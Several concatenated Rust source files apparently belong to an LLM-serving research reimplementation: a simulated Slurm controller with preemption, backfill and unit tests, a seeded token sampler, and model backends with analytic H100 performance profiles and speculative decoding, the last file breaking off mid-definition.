                .filter(|j| {
                    j.running_node() == Some(name)
                        && j.spec.preemptible
                        && !self.preempting.contains_key(&j.id)
                })
                .collect();
            let mut avail = entry.free;
            for v in &victims {
                avail.add(&v.spec.resources);
            }
            if !spec.resources.fits_in(&avail) {
                continue;
            }
            // Evict biggest-first until the job fits: fewest victims.
            victims.sort_by_key(|j| (std::cmp::Reverse(j.spec.resources.gpus), j.id));
            let mut freed = entry.free;
            let mut take: Vec<JobId> = Vec::new();
            for v in victims {
                if spec.resources.fits_in(&freed) {
                    break;
                }
                freed.add(&v.spec.resources);
                take.push(v.id);
            }
            if !spec.resources.fits_in(&freed) {
                continue;
            }
            let better = match &best {
                None => true,
                Some((_, b)) => take.len() < b.len(),
            };
            if better {
                best = Some((entry.spec.name.clone(), take));
            }
        }
        if let Some((node, victims)) = best {
            self.claims.insert(node.clone(), id);
            for victim in victims {
                let deadline = now.saturating_add(self.jobs[&victim].spec.grace);
                self.preempting.insert(victim, deadline);
                self.events.push(SlurmEvent::PreemptionNotice {
                    job: victim,
                    node: node.clone(),
                    deadline,
                });
            }
        }
    }

    /// How long could a job with `resources` run on the node it would be
    /// placed on right now before colliding with the blocked head-of-queue
    /// job's reserved gap? `None` = no fit right now, or no reservation
    /// constrains that node (caller falls back to its configured cap).
    /// This is what lets the service scheduler request backfill-gap-shaped
    /// allocations instead of full-walltime ones.
    pub fn estimate_gap(&self, resources: &Resources) -> Option<Millis> {
        let now = self.now();
        let probe = JobSpec {
            resources: *resources,
            ..JobSpec::service("gap-probe", resources.gpus, Millis::MAX / 4)
        };
        let node = self.find_node(&probe, JobId::MAX, now, None)?;
        // The reservation that would be made this cycle: the highest-
        // priority pending job that cannot start right now.
        let mut pending: Vec<&Job> = self
            .jobs
            .values()
            .filter(|j| j.state == JobState::Pending)
            .collect();
        pending.sort_by_key(|j| {
            (
                std::cmp::Reverse(j.requeued),
                -j.spec.priority,
                j.submitted_at,
                j.id,
            )
        });
        let head = pending
            .into_iter()
            .find(|j| self.find_node(&j.spec, j.id, now, None).is_none())?;
        let (rnode, start) = self.earliest_fit(&head.spec, head.id, now)?;
        if rnode == node {
            Some(start.saturating_sub(now))
        } else {
            None
        }
    }

    fn release(nodes: &mut BTreeMap<String, NodeEntry>, node: &str, res: &Resources) {
        if let Some(entry) = nodes.get_mut(node) {
            // A Down node already zeroed its free pool; don't re-add.
            if entry.state != NodeState::Down {
                entry.free.add(res);
            }
        }
    }

    /// Drain accumulated events (the coordinator's prolog/epilog signal).
    pub fn drain_events(&mut self) -> Vec<SlurmEvent> {
        std::mem::take(&mut self.events)
    }

    // -- accounting -----------------------------------------------------------

    /// `sacct`: one record per terminated job.
    pub fn sacct(&self) -> Vec<AccountingRecord> {
        self.jobs
            .values()
            .filter(|j| !j.state.is_active())
            .map(|j| {
                AccountingRecord {
                    job: j.id,
                    name: j.spec.name.clone(),
                    node: None,
                    gpus: j.spec.resources.gpus,
                    queued_ms: 0,
                    ran_ms: j
                        .ended_at
                        .map(|e| e.saturating_sub(j.submitted_at))
                        .unwrap_or(0),
                    end_state: format!("{:?}", j.state),
                }
            })
            .collect()
    }

    /// Garbage-collect terminated jobs older than `keep_ms` (bounded memory
    /// for long-lived services).
    pub fn purge_old_jobs(&mut self, keep_ms: Millis) {
        let now = self.now();
        self.jobs.retain(|_, j| {
            j.state.is_active()
                || j.ended_at
                    .map(|e| now.saturating_sub(e) < keep_ms)
                    .unwrap_or(true)
        });
    }

    /// For invariant checks: assert no node is oversubscribed and free pools
    /// are consistent with running jobs.
    pub fn check_invariants(&self) {
        let mut used: HashMap<&str, Resources> = HashMap::new();
        for job in self.jobs.values() {
            if let JobState::Running { node, .. } = &job.state {
                used.entry(node.as_str())
                    .or_insert(Resources::ZERO)
                    .add(&job.spec.resources);
            }
        }
        for entry in self.nodes.values() {
            let u = used
                .get(entry.spec.name.as_str())
                .copied()
                .unwrap_or(Resources::ZERO);
            assert!(
                u.fits_in(&entry.spec.resources),
                "node {} oversubscribed: used {:?} > capacity {:?}",
                entry.spec.name,
                u,
                entry.spec.resources
            );
            if entry.state == NodeState::Up {
                let mut expect_free = entry.spec.resources;
                expect_free.sub(&u);
                assert_eq!(
                    entry.free, expect_free,
                    "node {} free pool drifted",
                    entry.spec.name
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::clock::SimClock;
    use std::sync::Arc;

    fn ctld(nodes: usize) -> (Arc<SimClock>, Slurmctld) {
        let clock = SimClock::new();
        let c = Slurmctld::with_gpu_nodes(clock.clone(), nodes);
        (clock, c)
    }

    #[test]
    fn sbatch_pending_until_tick() {
        let (_clock, mut ctld) = ctld(1);
        let id = ctld.sbatch(JobSpec::service("svc-a", 2, 60_000));
        assert_eq!(ctld.job(id).unwrap().state, JobState::Pending);
        ctld.tick();
        assert!(ctld.job(id).unwrap().state.is_running());
        let events = ctld.drain_events();
        assert!(matches!(events[0], SlurmEvent::JobStarted { .. }));
        ctld.check_invariants();
    }

    #[test]
    fn gang_allocation_blocks_when_full() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs
        let a = ctld.sbatch(JobSpec::service("a", 2, 60_000));
        let b = ctld.sbatch(JobSpec::service("b", 2, 60_000));
        let c = ctld.sbatch(JobSpec::service("c", 2, 60_000));
        ctld.tick();
        assert!(ctld.job(a).unwrap().state.is_running());
        assert!(ctld.job(b).unwrap().state.is_running());
        assert_eq!(ctld.job(c).unwrap().state, JobState::Pending);
        ctld.check_invariants();
        // cancel one; c can start next cycle
        ctld.scancel(a);
        ctld.tick();
        assert!(ctld.job(c).unwrap().state.is_running());
        ctld.check_invariants();
    }

    #[test]
    fn backfill_lets_small_jobs_pass_blocked_head() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs free
        let big = ctld.sbatch(JobSpec {
            priority: 200,
            ..JobSpec::service("big", 8, 60_000) // can never fit on 4-GPU node
        });
        let small = ctld.sbatch(JobSpec::service("small", 1, 60_000));
        ctld.tick();
        assert_eq!(ctld.job(big).unwrap().state, JobState::Pending);
        assert!(
            ctld.job(small).unwrap().state.is_running(),
            "small job should backfill past the blocked head-of-queue"
        );
    }

    #[test]
    fn priority_order_respected() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs
        let low = ctld.sbatch(JobSpec {
            priority: 10,
            ..JobSpec::service("low", 4, 60_000)
        });
        let high = ctld.sbatch(JobSpec {
            priority: 500,
            ..JobSpec::service("high", 4, 60_000)
        });
        ctld.tick();
        assert!(ctld.job(high).unwrap().state.is_running());
        assert_eq!(ctld.job(low).unwrap().state, JobState::Pending);
    }

    #[test]
    fn batch_job_completes_after_duration() {
        let (clock, mut ctld) = ctld(1);
        let res = Resources {
            cpus: 4,
            gpus: 1,
            mem_mb: 1000,
        };
        let id = ctld.sbatch(JobSpec::batch("train", res, 5_000, 60_000));
        ctld.tick();
        assert!(ctld.job(id).unwrap().state.is_running());
        clock.advance_by(4_999);
        ctld.tick();
        assert!(ctld.job(id).unwrap().state.is_running());
        clock.advance_by(1);
        ctld.tick();
        assert_eq!(ctld.job(id).unwrap().state, JobState::Completed);
        let (total, free) = ctld.gpu_utilization();
        assert_eq!(total, free);
    }

    #[test]
    fn walltime_kills_service_job() {
        let (clock, mut ctld) = ctld(1);
        let id = ctld.sbatch(JobSpec::service("svc", 2, 10_000));
        ctld.tick();
        clock.advance_by(10_000);
        ctld.tick();
        assert_eq!(ctld.job(id).unwrap().state, JobState::Timeout);
        ctld.check_invariants();
    }

    #[test]
    fn node_failure_kills_jobs_and_blocks_scheduling() {
        let (_clock, mut ctld) = ctld(2);
        let id = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        ctld.tick();
        let node = ctld.job(id).unwrap().running_node().unwrap().to_string();
        ctld.drain_events();
        ctld.fail_node(&node);
        assert_eq!(ctld.job(id).unwrap().state, JobState::NodeFail);
        let events = ctld.drain_events();
        assert!(events.iter().any(|e| matches!(e, SlurmEvent::NodeDown { .. })));
        assert!(events
            .iter()
            .any(|e| matches!(e, SlurmEvent::JobEnded { state: JobStateTag::NodeFail, .. })));
        // resubmit lands on the other node
        let id2 = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        ctld.tick();
        let node2 = ctld.job(id2).unwrap().running_node().unwrap().to_string();
        assert_ne!(node2, node);
        ctld.check_invariants();
        // restore the failed node
        ctld.restore_node(&node);
        let (total, free) = ctld.gpu_utilization();
        assert_eq!(total, 8);
        assert_eq!(free, 4);
    }

    #[test]
    fn drained_node_accepts_no_new_jobs() {
        let (_clock, mut ctld) = ctld(1);
        ctld.drain_node("ggpu01");
        let id = ctld.sbatch(JobSpec::service("svc", 1, 60_000));
        ctld.tick();
        assert_eq!(ctld.job(id).unwrap().state, JobState::Pending);
    }

    #[test]
    fn scancel_frees_resources_and_is_idempotent() {
        let (_clock, mut ctld) = ctld(1);
        let id = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        ctld.tick();
        assert!(ctld.scancel(id));
        assert!(!ctld.scancel(id));
        let (total, free) = ctld.gpu_utilization();
        assert_eq!(total, free);
        ctld.check_invariants();
    }

    #[test]
    fn squeue_lists_only_active() {
        let (_clock, mut ctld) = ctld(1);
        let a = ctld.sbatch(JobSpec::service("a", 1, 60_000));
        let _b = ctld.sbatch(JobSpec::service("b", 1, 60_000));
        ctld.tick();
        ctld.scancel(a);
        let q = ctld.squeue();
        assert_eq!(q.len(), 1);
        assert_eq!(q[0].spec.name, "b");
    }

    #[test]
    fn best_fit_packs_nodes() {
        let (_clock, mut ctld) = ctld(2);
        let a = ctld.sbatch(JobSpec::service("a", 2, 60_000));
        ctld.tick();
        let node_a = ctld.job(a).unwrap().running_node().unwrap().to_string();
        // next 2-GPU job should pack onto the same node (best fit)
        let b = ctld.sbatch(JobSpec::service("b", 2, 60_000));
        ctld.tick();
        let node_b = ctld.job(b).unwrap().running_node().unwrap().to_string();
        assert_eq!(node_a, node_b);
    }

    #[test]
    fn preemption_notice_fires_exactly_grace_before_kill() {
        let (clock, mut ctld) = ctld(1); // 4 GPUs
        let svc = ctld.sbatch(JobSpec::preemptible_service("svc", 4, 600_000, 5_000));
        ctld.tick();
        assert!(ctld.job(svc).unwrap().state.is_running());
        ctld.drain_events();
        // A non-preemptible batch job needs the node.
        let res = Resources {
            cpus: 8,
            gpus: 4,
            mem_mb: 1000,
        };
        let batch = ctld.sbatch(JobSpec::batch("train", res, 10_000, 60_000));
        let t0 = ctld.now();
        ctld.tick();
        let events = ctld.drain_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                SlurmEvent::PreemptionNotice { job, deadline, .. }
                    if *job == svc && *deadline == t0 + 5_000
            )),
            "expected a notice with deadline exactly grace from now: {events:?}"
        );
        // The victim keeps running through its grace budget...
        clock.advance_by(4_999);
        ctld.tick();
        assert!(ctld.job(svc).unwrap().state.is_running());
        assert_eq!(ctld.job(batch).unwrap().state, JobState::Pending);
        assert!(ctld.drain_events().iter().all(|e| !matches!(
            e,
            SlurmEvent::JobEnded { state: JobStateTag::Preempted, .. }
        )));
        // ...and dies exactly at the deadline; the preemptor takes the node
        // in the same cycle.
        clock.advance_by(1);
        ctld.tick();
        let events = ctld.drain_events();
        assert!(events.iter().any(|e| matches!(
            e,
            SlurmEvent::JobEnded { job, state: JobStateTag::Preempted, .. } if *job == svc
        )));
        assert!(ctld.job(batch).unwrap().state.is_running());
        ctld.check_invariants();
    }

    #[test]
    fn requeued_service_job_reenters_at_front_priority() {
        let (clock, mut ctld) = ctld(1); // 4 GPUs
        let svc = ctld.sbatch(JobSpec::preemptible_service("svc", 4, 600_000, 1_000));
        ctld.tick();
        let res = Resources {
            cpus: 8,
            gpus: 4,
            mem_mb: 1000,
        };
        let batch = ctld.sbatch(JobSpec::batch("train", res, 5_000, 60_000));
        ctld.tick(); // notice; the node is claimed for the batch job
        // A higher-priority competitor joins the queue: the requeued job
        // must still start first (front of queue beats raw priority).
        let vip = ctld.sbatch(JobSpec {
            priority: 500,
            ..JobSpec::service("vip", 4, 600_000)
        });
        clock.advance_by(1_000);
        ctld.tick(); // svc killed + requeued; batch takes the claimed node
        assert_eq!(ctld.job(svc).unwrap().state, JobState::Pending);
        assert!(ctld.job(svc).unwrap().requeued);
        assert!(ctld.job(batch).unwrap().state.is_running());
        clock.advance_by(5_000);
        ctld.tick(); // batch completes; the freed node goes to the requeue
        assert!(
            ctld.job(svc).unwrap().state.is_running(),
            "requeued job must re-enter at the front of the queue"
        );
        assert_eq!(ctld.job(vip).unwrap().state, JobState::Pending);
        ctld.check_invariants();
    }

    #[test]
    fn walltime_warning_fires_grace_before_timeout() {
        let (clock, mut ctld) = ctld(1);
        let svc = ctld.sbatch(JobSpec::preemptible_service("svc", 2, 10_000, 3_000));
        ctld.tick();
        ctld.drain_events();
        clock.advance_by(6_999);
        ctld.tick();
        assert!(ctld.drain_events().iter().all(|e| !matches!(
            e,
            SlurmEvent::WalltimeWarning { .. }
        )));
        clock.advance_by(1); // ran = 7_000 = time_limit - grace
        ctld.tick();
        let events = ctld.drain_events();
        assert!(
            events.iter().any(|e| matches!(
                e,
                SlurmEvent::WalltimeWarning { job, deadline, .. }
                    if *job == svc && *deadline == 10_000
            )),
            "expected warning exactly grace before the kill: {events:?}"
        );
        // Warned once, not every cycle.
        ctld.tick();
        assert!(ctld.drain_events().iter().all(|e| !matches!(
            e,
            SlurmEvent::WalltimeWarning { .. }
        )));
        clock.advance_by(3_000);
        ctld.tick();
        assert_eq!(ctld.job(svc).unwrap().state, JobState::Timeout);
    }

    #[test]
    fn backfill_never_starts_batch_inside_reserved_gap() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs
        let res2 = Resources {
            cpus: 8,
            gpus: 2,
            mem_mb: 1000,
        };
        // 2 GPUs busy for 10s; 2 free.
        let b1 = ctld.sbatch(JobSpec::batch("b1", res2, 10_000, 60_000));
        ctld.tick();
        assert!(ctld.job(b1).unwrap().state.is_running());
        // Blocked head-of-queue service job reserves the gap at t=10s.
        let svc = ctld.sbatch(JobSpec::service("svc", 4, 600_000));
        // A long batch job would squat inside the reserved gap: must wait.
        let long = ctld.sbatch(JobSpec::batch("long", res2, 20_000, 60_000));
        // A short one provably ends before the gap begins: may backfill.
        let short = ctld.sbatch(JobSpec::batch("short", res2, 5_000, 60_000));
        ctld.tick();
        assert_eq!(ctld.job(svc).unwrap().state, JobState::Pending);
        assert_eq!(
            ctld.job(long).unwrap().state,
            JobState::Pending,
            "conservative backfill must not start a batch job inside the reserved service gap"
        );
        assert!(
            ctld.job(short).unwrap().state.is_running(),
            "a job guaranteed to end before the reserved gap may backfill"
        );
        ctld.check_invariants();
    }

    #[test]
    fn estimate_gap_reports_reserved_window() {
        let (_clock, mut ctld) = ctld(1); // 4 GPUs
        let res2 = Resources {
            cpus: 8,
            gpus: 2,
            mem_mb: 1000,
        };
        let _b1 = ctld.sbatch(JobSpec::batch("b1", res2, 10_000, 60_000));
        ctld.tick();
        // No blocked head yet: the remaining 2 GPUs are unconstrained.
        assert_eq!(ctld.estimate_gap(&res2), None);
        // A blocked 4-GPU service job reserves the node at t=10s: a 2-GPU
        // gap allocation on it must end by then.
        ctld.sbatch(JobSpec::service("svc", 4, 600_000));
        assert_eq!(ctld.estimate_gap(&res2), Some(10_000));
    }

    #[test]
    fn purge_keeps_active_jobs() {
        let (clock, mut ctld) = ctld(1);
        let a = ctld.sbatch(JobSpec::service("a", 1, 60_000));
        let b = ctld.sbatch(JobSpec::service("b", 1, 5_000));
        ctld.tick();
        clock.advance_by(5_000);
        ctld.tick(); // b times out
        clock.advance_by(100_000);
        ctld.purge_old_jobs(50_000);
        assert!(ctld.job(a).is_some());
        assert!(ctld.job(b).is_none());
    }
}
