//! Slurm simulator substrate.
//!
//! The paper deploys on a production Slurm cluster (1 login node + 10 GPU
//! nodes × 4 H100). We rebuild the parts of Slurm its architecture depends
//! on — gang allocation, priority scheduling with backfill, walltime
//! enforcement, node failure semantics, squeue/sbatch/scancel, accounting —
//! as a discrete-event simulator driven by a [`crate::util::clock::Clock`],
//! so the service scheduler runs unmodified against simulated *or* wall
//! time.
//!
//! See `DESIGN.md` §Substitutions for the fidelity argument.

mod background;
mod ctld;
mod types;

pub use background::{BackgroundLoad, BackgroundLoadConfig};
pub use ctld::Slurmctld;
pub use types::{
    AccountingRecord, Job, JobId, JobSpec, JobState, JobStateTag, NodeSpec, NodeState, Resources,
    SlurmEvent,
};
