//! Token sampling: greedy, temperature and top-k, deterministic per
//! request seed (OpenAI's `seed` parameter).

use crate::util::rng::Rng;

#[derive(Debug, Clone)]
pub struct SamplingParams {
    /// 0.0 = greedy.
    pub temperature: f64,
    /// 0 = no top-k truncation.
    pub top_k: usize,
    pub seed: u64,
}

impl Default for SamplingParams {
    fn default() -> Self {
        SamplingParams {
            temperature: 0.0,
            top_k: 0,
            seed: 0,
        }
    }
}

/// Per-sequence sampler state (rng stream advances with each token).
pub struct Sampler {
    params: SamplingParams,
    rng: Rng,
}

impl Sampler {
    pub fn new(params: SamplingParams) -> Sampler {
        let rng = Rng::new(params.seed);
        Sampler { params, rng }
    }

    /// Greedy (temperature 0) sampling? Speculative decoding only
    /// speculates on greedy sequences — argmax is deterministic, so
    /// verified rows reproduce the plain decode stream exactly.
    pub fn is_greedy(&self) -> bool {
        self.params.temperature <= 0.0
    }

    /// Sample a token id from a logits row.
    pub fn sample(&mut self, logits: &[f32]) -> i32 {
        if self.params.temperature <= 0.0 {
            return argmax(logits);
        }
        // Collect (index, logit) candidates, top-k if requested.
        let mut candidates: Vec<(usize, f32)> =
            logits.iter().copied().enumerate().collect();
        if self.params.top_k > 0 && self.params.top_k < candidates.len() {
            candidates.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap());
            candidates.truncate(self.params.top_k);
        }
        // Softmax with temperature.
        let t = self.params.temperature as f32;
        let max = candidates
            .iter()
            .map(|c| c.1)
            .fold(f32::NEG_INFINITY, f32::max);
        let weights: Vec<f64> = candidates
            .iter()
            .map(|c| (((c.1 - max) / t) as f64).exp())
            .collect();
        let total: f64 = weights.iter().sum();
        let mut u = self.rng.f64() * total;
        for (c, w) in candidates.iter().zip(&weights) {
            if u < *w {
                return c.0 as i32;
            }
            u -= w;
        }
        candidates.last().map(|c| c.0 as i32).unwrap_or(0)
    }
}

pub fn argmax(logits: &[f32]) -> i32 {
    logits
        .iter()
        .enumerate()
        .max_by(|a, b| a.1.partial_cmp(b.1).unwrap())
        .map(|(i, _)| i as i32)
        .unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn logits_with_peak(peak: usize, n: usize) -> Vec<f32> {
        let mut v = vec![0.0; n];
        v[peak] = 10.0;
        v
    }

    #[test]
    fn greedy_picks_argmax() {
        let mut s = Sampler::new(SamplingParams::default());
        assert_eq!(s.sample(&logits_with_peak(37, 100)), 37);
    }

    #[test]
    fn seeded_sampling_is_deterministic() {
        let params = SamplingParams {
            temperature: 1.0,
            top_k: 10,
            seed: 99,
        };
        let logits: Vec<f32> = (0..100).map(|i| (i as f32 * 0.731).sin()).collect();
        let a: Vec<i32> = {
            let mut s = Sampler::new(params.clone());
            (0..20).map(|_| s.sample(&logits)).collect()
        };
        let b: Vec<i32> = {
            let mut s = Sampler::new(params.clone());
            (0..20).map(|_| s.sample(&logits)).collect()
        };
        assert_eq!(a, b);
        let c: Vec<i32> = {
            let mut s = Sampler::new(SamplingParams { seed: 100, ..params });
            (0..20).map(|_| s.sample(&logits)).collect()
        };
        assert_ne!(a, c, "different seeds should diverge");
    }

    #[test]
    fn high_peak_dominates_even_with_temperature() {
        let mut s = Sampler::new(SamplingParams {
            temperature: 0.5,
            top_k: 0,
            seed: 5,
        });
        let mut logits = vec![0.0f32; 50];
        logits[7] = 50.0;
        for _ in 0..20 {
            assert_eq!(s.sample(&logits), 7);
        }
    }

    #[test]
    fn top_k_restricts_support() {
        let mut s = Sampler::new(SamplingParams {
            temperature: 2.0,
            top_k: 3,
            seed: 6,
        });
        // top-3 are indices 10, 11, 12
        let mut logits = vec![0.0f32; 20];
        logits[10] = 5.0;
        logits[11] = 5.5;
        logits[12] = 6.0;
        for _ in 0..50 {
            let t = s.sample(&logits);
            assert!((10..=12).contains(&t), "sampled {t} outside top-k");
        }
    }

    #[test]
    fn distribution_roughly_tracks_weights() {
        let mut s = Sampler::new(SamplingParams {
            temperature: 1.0,
            top_k: 0,
            seed: 7,
        });
        let mut logits = vec![0.0f32; 2];
        logits[0] = (4.0f32).ln(); // 4:1 odds
        let mut count0 = 0;
        for _ in 0..2000 {
            if s.sample(&logits) == 0 {
                count0 += 1;
            }
        }
        let frac = count0 as f64 / 2000.0;
        assert!((frac - 0.8).abs() < 0.04, "frac={frac}");
    }
}
