//! Model backends for the engine: the real PJRT-backed model and an
//! analytic performance model for the paper's H100-class LLMs.
//!
//! Both expose the same step-granular interface so the continuous
//! batching engine, sampler and OpenAI API are identical across them.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;

use crate::runtime::{ModelExecutor, SeqKv};

/// Per-sequence state owned by the engine, opaque to callers.
pub struct SeqState {
    /// Real backend: the sequence's KV cache.
    pub kv: Option<SeqKv>,
    /// Simulated backend: script cursor.
    pub cursor: usize,
}

impl SeqState {
    fn empty() -> SeqState {
        SeqState {
            kv: None,
            cursor: 0,
        }
    }
}

/// A servable model.
pub trait Backend: Send + Sync {
    /// Maximum decode batch (bucket cap).
    fn max_batch(&self) -> usize;
    /// Context limit.
    fn max_seq(&self) -> usize;
    /// Vocabulary size (logit row width).
    fn vocab(&self) -> usize;

    /// Process a prompt; returns (first-token logits, sequence state).
    ///
    /// `cached_len` is the prefix whose KV is already resident (prefix
    /// cache hits plus previously prefilled chunks): a backend that can
    /// skip work only runs the kernel over `tokens[cached_len..]`. It is
    /// an optimization hint — recomputing the whole prompt is always
    /// correct. The engine guarantees `cached_len < tokens.len()`.
    fn prefill(&self, tokens: &[i32], cached_len: usize) -> Result<(Vec<f32>, SeqState)>;

    /// Does `prefill` actually skip the `cached_len` prefix? The engine
    /// only chunks long prompts when true — a backend that recomputes
    /// from token zero would otherwise do quadratic work across chunks.
    fn supports_chunked_prefill(&self) -> bool {
        false
    }

    /// One decode step for a batch of sequences. `tokens[i]` is appended
    /// to `seqs[i]` at `positions[i]`; returns one logits row each.
    fn decode(
        &self,
        tokens: &[i32],
        positions: &[i32],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<f32>>>;

    /// Propose up to `k` continuation tokens for one sequence using a
    /// cheap draft model (speculative decoding). `history` is the full
    /// token history (prompt + sampled). Backends without a drafter
    /// return an empty proposal and the engine degrades to one token per
    /// step — the `XlaBackend` k=1 fallback.
    fn draft(&self, seq: &SeqState, history: &[i32], k: usize) -> Vec<i32> {
        let _ = (seq, history, k);
        Vec::new()
    }

    /// Batched speculative verify. For `seqs[i]` the target model scores
    /// `tokens[i]` followed by `drafts[i]` in one pass and accepts the
    /// longest prefix of the draft it agrees with. The returned rows are
    /// the logits at each accepted position plus one more — the
    /// correction (or bonus) row — so `1 <= rows.len() <= drafts.len()+1`
    /// and sampling the rows in order reproduces exactly the tokens a
    /// plain one-token decode loop would have emitted. Backend sequence
    /// state advances by precisely the returned rows.
    ///
    /// The default ignores the drafts and wraps one `decode` step (one
    /// row per sequence): correct for any backend, no speedup.
    fn verify(
        &self,
        tokens: &[i32],
        positions: &[i32],
        drafts: &[Vec<i32>],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<Vec<f32>>>> {
        let _ = drafts;
        Ok(self
            .decode(tokens, positions, seqs)?
            .into_iter()
            .map(|row| vec![row])
            .collect())
    }
}

// ---------------------------------------------------------------------------
// Real backend: the AOT-compiled transformer through PJRT.
// ---------------------------------------------------------------------------

pub struct XlaBackend {
    executor: Arc<ModelExecutor>,
    model: String,
    max_batch: usize,
    max_seq: usize,
    vocab: usize,
}

impl XlaBackend {
    /// Load (compile) the model on the executor. Blocking: this is the
    /// paper's cold-start cost, gated by the scheduler's readiness probes.
    pub fn load(executor: Arc<ModelExecutor>, model: &str) -> Result<XlaBackend> {
        let info = executor.load(model)?;
        Ok(XlaBackend {
            executor,
            model: model.to_string(),
            max_batch: info.decode_buckets.last().copied().unwrap_or(1),
            max_seq: info.max_seq,
            vocab: info.vocab,
        })
    }
}

impl Backend for XlaBackend {
    fn max_batch(&self) -> usize {
        self.max_batch
    }

    fn max_seq(&self) -> usize {
        self.max_seq
    }

    fn vocab(&self) -> usize {
        self.vocab
    }

    fn prefill(&self, tokens: &[i32], _cached_len: usize) -> Result<(Vec<f32>, SeqState)> {
        // The PJRT prefill HLO is compiled for whole prompts; it recomputes
        // the cached prefix (correct, just not faster). The analytic
        // backends honor the hint — the paged-kernel lane can follow.
        let (logits, kv) = self.executor.prefill(&self.model, tokens)?;
        Ok((
            logits,
            SeqState {
                kv: Some(kv),
                cursor: 0,
            },
        ))
    }

    fn decode(
        &self,
        tokens: &[i32],
        positions: &[i32],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<f32>>> {
        let kvs: Vec<SeqKv> = seqs
            .iter_mut()
            .map(|s| s.kv.take().expect("sequence without kv"))
            .collect();
        let (logits, kvs) =
            self.executor
                .decode(&self.model, tokens.to_vec(), positions.to_vec(), kvs)?;
        for (s, kv) in seqs.iter_mut().zip(kvs) {
            s.kv = Some(kv);
        }
        Ok(logits)
    }
}

// ---------------------------------------------------------------------------
// Simulated backend: paper-scale models as calibrated service times.
// ---------------------------------------------------------------------------

/// An analytic profile of a production model on the paper's H100 nodes.
/// We have no H100s (DESIGN.md §Substitutions); the profile reproduces the
/// *service time structure*: per-step latency grows mildly with batch
/// size, so saturation throughput ≈ `max_batch / step_time(max_batch)`.
#[derive(Debug, Clone)]
pub struct PerfProfile {
    pub name: String,
    /// Decode step latency at batch 1.
    pub step_base_ms: f64,
    /// Additional per-step cost per extra sequence in the batch.
    pub step_per_seq_ms: f64,
    /// Prompt processing latency per [`PREFILL_REF_TOKENS`] *uncached*
    /// tokens (the paper's typical sentence prompt), so prefix-cache hits
    /// and chunked prefill scale the cost linearly.
    pub prefill_ms: f64,
    pub max_batch: usize,
    pub max_seq: usize,
    /// The modeled drafter's per-token acceptance probability: how often
    /// a draft token agrees with the target model. Threaded from
    /// `[speculative] acceptance_rate` by the launcher.
    pub spec_accept: f64,
    /// Cost of drafting + verifying one speculative position, as a
    /// fraction of a decode step (the drafter forward pass plus the
    /// extra verification FLOPs) — what keeps the speedup curve honest.
    pub spec_overhead: f64,
}

impl PerfProfile {
    /// Profiles calibrated against Table 2 (see EXPERIMENTS.md): sentence
    /// responses are ~30 tokens; saturation RPS ≈ max_batch /
    /// (30 · step_time(max_batch)).
    pub fn by_name(name: &str) -> Option<PerfProfile> {
        // Calibration (§Perf / EXPERIMENTS.md): the canned sentence is 21
        // tokens; saturation RPS ≈ max_batch / (21 · step(max_batch)).
        let (step_base_ms, step_per_seq_ms, prefill_ms, max_batch) = match name {
            // 27 RPS sentences → step(32) ≈ 56 ms
            "intel-neural-7b" => (40.0, 0.5, 10.0, 32),
            // 8 RPS sentences → step(16) ≈ 95 ms
            "mixtral-8x7b" => (80.0, 1.0, 120.0, 16),
            // 2 RPS sentences → step(8) ≈ 190 ms
            "qwen1.5-72b" => (150.0, 5.0, 350.0, 8),
            "llama3-70b" => (150.0, 5.0, 350.0, 8),
            _ => return None,
        };
        Some(PerfProfile {
            name: name.to_string(),
            step_base_ms,
            step_per_seq_ms,
            prefill_ms,
            max_batch,
            max_seq: 4096,
            // A well-matched 1B-class drafter on these targets: ~70 %
            // agreement, ~6 % of a target step per drafted position.
            spec_accept: 0.7,
            spec_overhead: 0.06,
        })
    }

    /// Decode step latency for a given batch size.
    pub fn step_time(&self, batch: usize) -> Duration {
        Duration::from_secs_f64(
            (self.step_base_ms + self.step_per_seq_ms * batch.saturating_sub(1) as f64) / 1e3,
        )
    }

    /// Prompt-processing latency for `uncached` tokens of prefill work.
    pub fn prefill_time(&self, uncached: usize) -> Duration {
        Duration::from_secs_f64(
            self.prefill_ms / 1e3 * (uncached as f64 / PREFILL_REF_TOKENS as f64),
        )
    }

    /// A speculative verify step over up to `k` draft positions per
    /// sequence: one decode step (the positions verify in parallel) plus
    /// `spec_overhead` per drafted position.
    pub fn spec_step_time(&self, batch: usize, k: usize) -> Duration {
        Duration::from_secs_f64(
            self.step_time(batch).as_secs_f64() * (1.0 + self.spec_overhead * k as f64),
        )
    }
}

/// Deterministic per-position "did the drafter guess right" coin: hashes
/// the absolute script position into [0, 1) and compares it against the
/// profile's acceptance rate, so runs are reproducible without RNG state.
fn draft_hits(pos: u64, accept: f64) -> bool {
    let mut h = 0xcbf2_9ce4_8422_2325u64 ^ pos.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    h ^= h >> 33;
    h = h.wrapping_mul(0xff51_afd7_ed55_8ccd);
    h ^= h >> 33;
    ((h >> 11) as f64 / (1u64 << 53) as f64) < accept
}

/// The prompt length `PerfProfile::prefill_ms` is calibrated against —
/// the paper's Table 2 sentence prompts are this order of magnitude.
pub const PREFILL_REF_TOKENS: usize = 32;

/// Simulated model: emits a canned sentence ("1 2 3 ... 10", mirroring the
/// paper's Table 2 prompt) with profile-calibrated latencies. Logits are
/// one-hot so the sampler path is exercised unchanged.
pub struct SimBackend {
    pub profile: PerfProfile,
    script: Vec<i32>,
    vocab: usize,
    /// Scale all sleeps (0 = no sleeping, for unit tests).
    pub time_scale: f64,
}

impl SimBackend {
    pub fn new(profile: PerfProfile) -> SimBackend {
        let text = "1 2 3 4 5 6 7 8 9 10";
        let mut script: Vec<i32> = super::tokenizer::encode(text)[1..].to_vec();
        script.push(super::tokenizer::EOS);
        SimBackend {
            profile,
